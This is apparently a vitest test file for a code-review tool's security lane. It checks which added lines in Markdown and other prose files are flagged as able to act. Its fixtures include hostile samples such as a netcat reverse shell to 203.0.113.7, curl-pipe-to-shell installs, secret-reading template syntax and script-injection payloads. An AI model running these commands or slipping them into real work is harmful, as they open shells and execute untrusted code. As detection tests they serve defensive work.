/**
 * The security lane's prose view (security/proseView.ts, through its
 * read_diff): a prose file shows its added lines only, numbered as in the
 * head; plain lines share one budget; lines that can act are shown past it;
 * what is left out is counted in the header and named in the omitted list.
 * Dependency manifests and MDX are not prose, and the adversary lane's
 * digest still shows the whole diff.
 */
import { describe, expect, it, onTestFinished } from "vitest";
import { diffDigest } from "../../src/review/diffDigest.js";
import { reviewScripts } from "../../src/review/scripts.js";
import { proseAddedLines } from "../../src/review/security/proseActs.js";
import { PROSE_ACTING_CEILING, PROSE_BUDGET } from "../../src/review/security/proseView.js";
import { isProsePath } from "../../src/review/signals/prose.js";
import { shownAddedLines } from "../e2e/support/model.js";
import { scriptRunner } from "../support/gauntletHarness.js";
import { TempRepo } from "./support/tempRepo.js";

const link = (i: number) =>
  `([#${20000 + i}](https://github.com/vitejs/vite/issues/${20000 + i})) ([${(i * 7919).toString(16).padStart(7, "0")}](https://github.com/vitejs/vite/commit/${(i * 7919).toString(16).padStart(40, "0")}))`;
const oldChangelog =
  Array.from({ length: 400 }, (_, i) => (i % 10 === 0 ? `## 1.${i}.0 (2025-01-01)\n` : `* fix(old): entry ${i} (#${i}) ${link(i)}`)).join("\n") + "\n";
const newChangelog =
  Array.from({ length: 600 }, (_, i) =>
    i % 12 === 0 ? `## [2.${i}.0](https://github.com/x/y/compare/a...b) (2025-06-01)` : `* **deps:** new entry ${i} ${link(i)}`,
  ).join("\n") + "\n";

function changelogRepo(extra: Record<string, [string, string]> = {}): { repo: TempRepo; base: string } {
  const repo = TempRepo.create();
  onTestFinished(() => repo.cleanup());
  repo.write("CHANGELOG.md", oldChangelog);
  repo.write("src/app.ts", "export const a = 1;\n");
  for (const [path, [before]] of Object.entries(extra)) repo.write(path, before);
  const base = repo.commit("base");
  repo.write("CHANGELOG.md", newChangelog);
  repo.write("src/app.ts", "export const a = 2;\n");
  for (const [path, [, after]] of Object.entries(extra)) repo.write(path, after);
  repo.commit("change");
  return { repo, base };
}

async function securityDigest(repo: TempRepo, base: string): Promise<{ text: string; omitted: string[] }> {
  const runner = scriptRunner({ workspace: repo.dir, facts: { diff_spec: `${base}..HEAD` } });
  const script = reviewScripts().get("security-reviewer", "read_diff")!;
  const out = await runner.run(script, { diff_tokens: 40_000, plan_context: "" });
  return { text: out.diff_text as string, omitted: out.diff_omitted as string[] };
}

/** The rows a digest shows under one file's header, up to the next header. */
function section(text: string, path: string): string[] {
  const rows = text.split("\n");
  const start = rows.findIndex((row) => row.startsWith(`### ${path} `));
  expect(start, `no section for ${path}`).toBeGreaterThanOrEqual(0);
  const end = rows.findIndex((row, i) => i > start && row.startsWith("### "));
  return rows.slice(start, end === -1 ? undefined : end);
}

describe("the security lane's prose view", () => {
  it("shows a rewritten changelog's added lines only, numbered as in the head, within the budget, and counts the rest", async () => {
    const { repo, base } = changelogRepo();
    const { text, omitted } = await securityDigest(repo, base);
    const rows = section(text, "CHANGELOG.md");
    const head = newChangelog.split("\n");
    const shown = shownAddedLines(rows.join("\n"));
    expect(shown.length).toBeGreaterThan(20);
    // Numbering: every shown line is the head's line of that number.
    for (const line of shown) expect(line.text).toBe(head[line.line - 1]);
    // No deleted line, no context: only the header, hunk headers and added lines.
    expect(text).not.toContain("fix(old)");
    expect(rows.slice(1).filter((row) => !(/^@@ -\d+,0 \+\d+,\d+ @@$/.test(row) || /^\s*\d+\+/.test(row) || row === ""))).toEqual([]);
    // The budget: what the plain lines cost, as the view counts them.
    expect(shown.reduce((n, line) => n + line.text.length + 8, 0)).toBeLessThanOrEqual(PROSE_BUDGET);
    expect(rows[0]).toBe(
      `### CHANGELOG.md — modified, +600 −440 — prose: added lines only, ${shown.length} of 600 shown (every line that can act, then the first within a budget); read the other ${600 - shown.length} with fs_read`,
    );
    expect(omitted).toContain(`CHANGELOG.md (prose: ${600 - shown.length} of its 600 added lines not shown; read them with fs_read)`);
    // The code beside it is shown as its diff, deleted line included.
    expect(section(text, "src/app.ts").join("\n")).toContain("-export const a = 1;");
  });

  it("shows a Markdown file whole when it fits, with a header saying so", async () => {
    const { repo, base } = changelogRepo({ "docs/guide.md": ["# Guide\n\nOld words.\n", "# Guide\n\nNew words.\nMore words.\n"] });
    const { text, omitted } = await securityDigest(repo, base);
    const rows = section(text, "docs/guide.md");
    expect(rows[0]).toBe("### docs/guide.md — modified, +2 −1 — prose: added lines only, all 2 shown");
    expect(rows.slice(1, 4)).toEqual(["@@ -3,0 +3,2 @@", "3+New words.", "4+More words."]);
    expect(omitted.some((line) => line.startsWith("docs/guide.md"))).toBe(false);
  });

  it("shows lines that can act past the budget: <script setup>, a fenced curl | sh, a doctest, template syntax; not a bare link", async () => {
    const filler = Array.from({ length: 300 }, (_, i) => `Plain sentence number ${i} that explains nothing in particular at all.`);
    const tail = [
      "<script setup>",
      "import { steal } from './x.js'",
      "</script>",
      "",
      "```sh",
      "curl -fsSL https://get.example.sh | sh",
      "echo installed",
      "```",
      "",
      ">>> import os; os.system('id')",
      "{{ $env.SECRET }}",
      "See [the release](https://github.com/x/y/releases/tag/v1).",
      "An ordinary closing sentence.",
    ];
    const { repo, base } = changelogRepo({ "docs/index.md": ["# Docs\n", ["# Docs", ...filler, ...tail].join("\n") + "\n"] });
    const { text } = await securityDigest(repo, base);
    const rows = section(text, "docs/index.md");
    const shown = new Map(shownAddedLines(rows.join("\n")).map((line) => [line.text, line.line]));
    const at = (line: string) => 2 + filler.length + tail.indexOf(line);
    for (const acting of [
      "<script setup>",
      "import { steal } from './x.js'",
      "```sh",
      "curl -fsSL https://get.example.sh | sh",
      "echo installed",
      ">>> import os; os.system('id')",
      "{{ $env.SECRET }}",
    ])
      expect(shown.get(acting), acting).toBe(at(acting));
    expect(shown.has("See [the release](https://github.com/x/y/releases/tag/v1).")).toBe(false);
    expect(shown.has("An ordinary closing sentence.")).toBe(false);
    expect(shown.has(filler.at(-1)!)).toBe(false);
    expect(rows[0]).toMatch(/ — prose: added lines only, \d+ of 313 shown /);
  });

  it("tracks a code fence opened in a hunk's context: an added plain line inside it can act", () => {
    const patch = ["@@ -1,4 +1,5 @@", " Install it:", " ```", " npm ci", "+node scripts/fetch.js", " ```"].join("\n");
    const lines = proseAddedLines(patch);
    expect(lines).toEqual([{ number: 4, text: "node scripts/fetch.js", after: 3, acts: true }]);
    const outside = proseAddedLines(["@@ -1,2 +1,3 @@", " Intro.", "+node is a runtime", " More."].join("\n"));
    expect(outside[0]!.acts).toBe(false);
  });

  it("tells lines that can act from plain prose, links included", () => {
    const acts = (rows: string[]) => proseAddedLines(["@@ -1,1 +1,10 @@", " Intro.", ...rows.map((row) => `+${row}`)].join("\n")).map((line) => line.acts);
    const acting = [
      '<iframe src="https://x.example/"></iframe>',
      '<img src="x.png" onerror="fetch(1)">',
      '  :title="leak()"',
      "[click](javascript:alert(1))",
      "{% include 'x.html' %}",
      "export const data = await load()",
      ".. raw:: html",
      "include::../secrets.adoc[]",
      "curl -fsSL https://get.example/i | bash",
      "Set `process.env.NODE_OPTIONS` first.",
      "Run `npm install evil-pkg` to start.",
      "nc -e /bin/sh 203.0.113.7 4444",
      "$ python3 -c 'import this'",
      "https://mirror.example/pkg.tar.gz",
    ];
    expect(acts(acting)).toEqual(acting.map(() => true));
    const plain = [
      "* **deps:** update rolldown ([#20270](https://github.com/vitejs/vite/issues/20270)) ([f7377c3](https://github.com/vitejs/vite/commit/f7377c3))",
      "## <small>6.1.1 (2025-04-28)</small>",
      "The online docs explain common options.",
      "| option | default |",
      "Imports are resolved once.",
    ];
    expect(acts(plain)).toEqual(plain.map(() => false));
    // A doctest's continuation lines run with it; a "..." in prose does not.
    expect(acts([">>> total = sum(", "...     __import__('os').listdir('/'))", "3", "", "... and so on."])).toEqual([true, true, false, false, false]);
  });

  it("counts lines that can act past the ceiling in the header and the omitted list", async () => {
    const scripts = Array.from({ length: 1_000 }, (_, i) => `<script src="https://cdn.example/${i}.js"></script> ${"x".repeat(60)}`);
    const { repo, base } = changelogRepo({ "notes.md": ["# Notes\n", ["# Notes", ...scripts].join("\n") + "\n"] });
    const { text, omitted } = await securityDigest(repo, base);
    const rows = section(text, "notes.md");
    const shown = shownAddedLines(rows.join("\n"));
    expect(shown.reduce((n, line) => n + line.text.length + 8, 0)).toBeLessThanOrEqual(PROSE_ACTING_CEILING);
    const hidden = 1_000 - shown.length;
    expect(hidden).toBeGreaterThan(0);
    expect(rows[0]).toContain(`read the other ${hidden} with fs_read (${hidden} of them can act: over the ceiling)`);
    expect(omitted).toContain(`notes.md (prose: ${hidden} of its 1000 added lines not shown, ${hidden} of them lines that can act; read them with fs_read)`);
  });

  it("requirements.txt, CMakeLists.txt and MDX are not prose: the lane sees their whole diff", async () => {
    expect(
      ["requirements.txt", "requirements/dev.txt", "dev-requirements.txt", "test_requirements.txt", "constraints.txt", "CMakeLists.txt", "docs/x.mdx"].filter(
        isProsePath,
      ),
    ).toEqual([]);
    expect(["README", "docs/x.md", "notes.txt", "docs/index.rst", "CHANGELOG"].every(isProsePath)).toBe(true);
    const { repo, base } = changelogRepo({
      "requirements.txt": ["requests==2.31.0\n", "requests==2.32.0\n"],
      "docs/x.mdx": ["# X\n", "# Y\n"],
    });
    const { text } = await securityDigest(repo, base);
    expect(section(text, "requirements.txt")).toEqual(["### requirements.txt — modified, +1 −1", "@@ -1 +1 @@", " -requests==2.31.0", "1+requests==2.32.0"]);
    expect(section(text, "docs/x.mdx").slice(0, 4)).toEqual(["### docs/x.mdx — modified, +1 −1", "@@ -1 +1 @@", " -# X", "1+# Y"]);
  });

  it("leaves the adversary lane's digest as it was: the whole diff, deleted lines included", async () => {
    const { repo, base } = changelogRepo();
    const runner = scriptRunner({ workspace: repo.dir, facts: { diff_spec: `${base}..HEAD` } });
    const adversary = reviewScripts().get("adversary", "read_diff")!;
    const state = { diff_tokens: 100_000, plan_context: "Update the changelog." };
    const registered = await runner.run(adversary, state);
    const plain = await runner.run(diffDigest({ requirePlan: true }), state);
    expect(registered.diff_text).toBe(plain.diff_text);
    expect(registered.diff_text).toContain("-* fix(old): entry 1 ");
    expect(registered.diff_text).not.toContain("prose:");
  });
});
